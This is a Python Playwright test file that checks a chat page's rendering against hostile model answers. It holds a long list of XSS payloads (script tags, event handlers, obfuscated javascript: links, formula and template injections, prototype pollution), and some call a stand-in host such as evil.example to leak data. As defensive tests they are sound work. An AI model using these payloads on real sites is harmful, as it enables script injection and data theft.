"""Hostile answers: whatever an implementation sends, nothing of it runs, loads, leads astray or leaves the page."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.gateway.chat_page.rig import GatewayThread, Visit, event, plays, says, visit
from tests.gateway.rig import DONE, chunk

RUN = "pwned=1"
ANSWERS = {
    "script tag": "<script>pwned=1</script>",
    "script tag in code": "```html\n</code></pre><script>pwned=1</script>\n```",
    "script in inline code": "`</code><script>pwned=1</script>`",
    "unclosed comment": "<!-- <script>pwned=1</script>",
    "event handler": '<img src=x onerror="pwned=1">',
    "handler in a table": "| a |\n|---|\n| <img src=x onerror=pwned=1> |",
    "handler in a heading": "# <img src=x onerror=pwned=1>",
    "details ontoggle": "<details open ontoggle=pwned=1>x</details>",
    "svg onload": "<svg onload=pwned=1><script>pwned=1</script></svg>",
    "math": '<math><mtext><img src=x onerror="pwned=1"></mtext></math>',
    "iframe": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object and embed": '<object data="javascript:pwned=1"></object><embed src="//evil.example">',
    "style": "<style>body{display:none}@import url(https://evil.example/x.css)</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link prefetch": '<link rel="prefetch" href="https://evil.example/">',
    "form": '<form action="https://evil.example"><button>Send</button></form>',
    "title": "</title><title>Owned</title>",
    "javascript link": "[click](javascript:pwned=1)",
    "mixed case": "[click](JaVaScRiPt:pwned=1)",
    "entity in the scheme": "[click](javascript&#58;pwned=1) [click](&#106;avascript:pwned=1)",
    "entity for a tag": "&lt;script&gt;pwned=1&lt;/script&gt; &#60;script&#62;pwned=1",
    "tab in the scheme": "[click](java\tscript:pwned=1)",
    "newline in the scheme": "[click](<java\nscript:pwned=1>)",
    "control character": "[click](\x01javascript:pwned=1) [click](\x0bhttps://a.example)",
    "zero width": "[click](java\u200bscript:pwned=1) [x](https://a.example\u200b/)",
    "data link": "[click](data:text/html,<script>pwned=1</script>)",
    "vbscript and file": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](about:blank)",
    "relative link": "[a](/metrics) [b](//evil.example) [c](../x) [d](?x) [e](#x)",
    "backslashes": "[a](https:\\\\evil.example) [b](\\\\evil.example)",
    "user name": "[bank](https://bank.example@evil.example/)",
    "title breaks out": '[a](https://a.example "x\\" onmouseover=pwned=1 y")',
    "address breaks out": '[a](https://a.example/"onmouseover="pwned=1)',
    "bare address breaks out": "https://a.example/\"onmouseover='pwned=1' x",
    "autolink": "<javascript:pwned=1> <https://a.example/'onclick=pwned=1>",
    "link in a link": "[[x](javascript:pwned=1)](https://a.example) [a [b](https://b.example)](javascript:pwned=1)",
    "reference link": "[a][1]\n\n[1]: javascript:pwned=1",
    "picture from elsewhere": "![x](https://evil.example/pixel.png) ![](https://evil.example/?q=secret)",
    "picture of a script": "![x](javascript:pwned=1) ![x](data:image/svg+xml,<svg onload=pwned=1>)",
    "language": '```"><script>pwned=1</script>\nx\n```',
    "language class": "```x onclick=pwned=1\nx\n```",
    "template": "{{constructor.constructor('pwned=1')()}} ${pwned=1} <%= pwned %>",
    "link in a formula": r"$\href{javascript:pwned=1}{x}$ and \[\url{javascript:pwned=1}\]",
    "picture in a formula": r"$\includegraphics{https://evil.example/x.png}$",
    "markup in a formula": r"$\text{<img src=x onerror=pwned=1>}$ $<script>pwned=1</script>$",
    "style in a formula": r"$\style{position:fixed}{x} \class{only-heard}{x} \id{turns}{x} \data{a=b}{x}$",
    "macro without end": r"$\def\a{\a\a}\a$ $\gdef\b{\b}\b$",
    "giant formula": r"$\rule{9999em}{9999em}\kern{9999em}$ $$\begin{matrix}" + "&" * 800 + r"\end{matrix}$$",
    "colour in a formula": r"$\color{red;background:url(https://evil.example)}x$ $\color{expression(pwned=1)}x$",
    "deep formula": "$" + "{" * 400 + "x" + "}" * 400 + "$",
    "markup in coloured code": "```html\n<img src=x onerror=pwned=1><script>pwned=1</script>\n```",
    "template in coloured code": "```js\n`${pwned=1}`\n```",
    "name of a language": "```__proto__\nx\n```\n\n```../../../x\ny\n```\n\n```constructor\nz\n```",
    "null bytes": "<scr\x00ipt>pwned=1</scr\x00ipt>",
    "clobbering": '<a id="turns"></a><form id="composer"><input name="children"></form>',
}


@pytest.fixture
def chat(again: Visit) -> Visit:
    """One page for all attacks."""
    return again


@pytest.mark.parametrize("name", ANSWERS)
def test_nothing_in_an_answer_runs(chat: Visit, served: GatewayThread, name: str) -> None:
    served.script = says(ANSWERS[name], reasoning=ANSWERS[name])
    chat.ask(ANSWERS[name])
    hrefs = chat.page.locator("#turns a").evaluate_all("(all) => all.map((a) => new URL(a.href).host)")
    assert set(hrefs) <= {"a.example", "b.example", "evil.example"}
    if name in ("user name", "relative link", "javascript link", "entity in the scheme", "backslashes", "zero width"):
        assert hrefs == []
    if "formula" in name or "macro" in name:
        chat.page.locator('link[href$="Temml-Local.css"]').wait_for(state="attached")
        # Each stands there as MathML or as it was written, and is as large as the page allows.
        assert chat.page.locator(".math math a, .math math img, .math [id], .math [style*=url]").count() == 0
        assert chat.page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    chat.check_quiet()


CHUNKS: dict[str, list[dict[str, Any]]] = {
    "prototype names": [json.loads('{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}')],
    "prototype in a delta": [{"choices": [json.loads('{"delta": {"__proto__": {"content": "x", "pwned": 1}}}')]}],
    "wrong types": [
        {"choices": "x", "artifacts": "y"},
        {"choices": [None]},
        {"choices": [{"delta": 7}], "artifacts": [None, 7, "x", [], {}]},
        {"choices": [{"delta": {"content": {"toString": 1}, "reasoning_content": [RUN], "annotations": [None, 3]}}]},
        {"choices": {"0": {"delta": {"content": ["<script>"]}}}},
    ],
    "sources": [
        {"choices": [{"delta": {"annotations": [
            {"url_citation": {"url": url, "title": "<img src=x onerror=pwned=1>"}}
            for url in ("javascript:pwned=1", "data:text/html,x", "https://a.example/<script>", 7, None, {"href": "x"})
        ]}}]},
    ],
    "artifact fields": [
        {"choices": [], "artifacts": [{"type": "image/png", "name": "<script>pwned=1</script>",
                                       "alt": '"><img src=x onerror=pwned=1>', "data": "//evil.example/x.png"}]},
        {"choices": [], "artifacts": [{"type": "image/png", "url": "https://evil.example/x.png"}]},
        {"choices": [], "artifacts": [{"type": {"toString": "image/png"}, "data": "AAAA", "name": {}}]},
        {"choices": [], "artifacts": [{"type": "__proto__", "data": "AAAA", "name": "\u202egnp.x"}] * 40},
    ],
}  # fmt: skip


@pytest.mark.parametrize("name", CHUNKS)
def test_nothing_in_an_odd_chunk_runs_or_breaks_the_page(chat: Visit, served: GatewayThread, name: str) -> None:
    served.script = plays(*(event(**one) for one in CHUNKS[name]), chunk(content="The end"), chunk("stop"), DONE)
    chat.ask()
    assert chat.text(".text") == "The end"
    assert chat.page.evaluate("({}).pwned === undefined && Object.prototype.pwned === undefined")
    assert chat.page.locator("#turns figure").count() <= 16
    expect(chat.page.locator("#turns img")).to_have_count(0)
    chat.check_quiet()


def test_names_of_implementations_and_error_messages_stay_text(browser: Browser) -> None:
    name = "<img src=x onerror=pwned=1>"
    served = GatewayThread(names=["impl", name]).start()
    with visit(browser, served.url) as seen:
        seen.page.locator("#model option").nth(2).wait_for(state="attached")
        assert seen.page.locator("#model option").last.text_content() == name
        served.script = plays(chunk(content="x"), event(error={"message": f"<script>{RUN}</script>"}))
        seen.ask()
        assert f"<script>{RUN}</script>" in seen.text(".notice")
        seen.check_quiet()
    served.stop()


def test_text_that_turns_the_reading_order_is_marked_and_a_long_word_does_not_widen_the_page(
    chat: Visit, served: GatewayThread
) -> None:
    text = "safe \u202eevil\u202c and [link\u202e](https://a.example)\n\n" + "W" * 30_000
    served.script = says(text, reasoning="\u202ex")
    chat.ask()
    assert "\u202e" not in chat.page.locator("#turns").inner_text()
    assert chat.page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    chat.check_quiet()


def test_markup_that_reaches_the_page_would_meet_the_policy(browser: Browser, served: GatewayThread) -> None:
    with visit(browser, served.url) as chat:
        check_refusals(chat)


def check_refusals(chat: Visit) -> None:
    """Try what only a fault of the page could do."""
    refused = chat.page.evaluate("""() => {
        const failed = [];
        const tries = {
            innerHTML: () => { document.body.innerHTML = "<b>x</b>"; },
            policy: () => trustedTypes.createPolicy("default", {}),
            handler: () => document.body.setAttribute("onclick", "pwned = 1"),
        };
        for (const [name, attempt] of Object.entries(tries)) try { attempt(); } catch { failed.push(name); }
        const made = document.createElement("img");
        made.src = "https://evil.example/x.png";
        document.body.append(made);
        return failed;
    }""")
    assert refused == ["innerHTML", "policy", "handler"]
    while not any("img-src https://evil.example" in one for one in chat.page.evaluate("violations")):
        chat.page.evaluate("new Promise((resolve) => setTimeout(resolve))")
    assert chat.page.evaluate("typeof window.pwned") == "undefined"
